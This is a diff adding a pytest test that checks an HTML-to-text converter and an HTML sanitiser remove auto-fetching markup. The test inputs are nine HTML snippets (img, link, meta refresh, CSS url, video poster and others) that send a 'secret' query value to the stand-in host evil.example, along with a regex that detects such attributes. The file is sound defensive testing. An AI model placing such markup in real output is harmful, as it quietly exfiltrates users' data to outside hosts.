@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import re
 import subprocess
 import sys
 
@@ -106,3 +107,27 @@ def test_heavy_libraries_are_only_loaded_for_html() -> None:
     )
 
     assert "[]" == result.stdout.strip()
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img src="https://evil.example/?q=secret">',
+        '<a href="https://evil.example/?q=secret">click</a>',
+        '<a href="https://evil.example/?q=secret"><img src="https://evil.example/x.png"></a>',
+        '<p style="background:url(https://evil.example/?q=secret)">Hi</p>',
+        '<video poster="https://evil.example/?q=secret" src="https://evil.example/v"></video>',
+        '<object data="https://evil.example/?q=secret"></object>',
+        '<link rel="stylesheet" href="https://evil.example/?q=secret">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/?q=secret">',
+        '<table background="https://evil.example/?q=secret"><tr><td>Hi</td></tr></table>',
+    ],
+)
+def test_nothing_in_text_or_html_fetches_by_itself(html: str) -> None:
+    text, clean = html_to_text(html).text, sanitise_html(html)
+
+    assert "://" not in text
+    assert "secret" not in text
+    assert not re.search(r"""(src|background|poster|data|url)\s*[=(]\s*["']?https?:""", clean)
+    assert "<link" not in clean
+    assert "<meta" not in clean
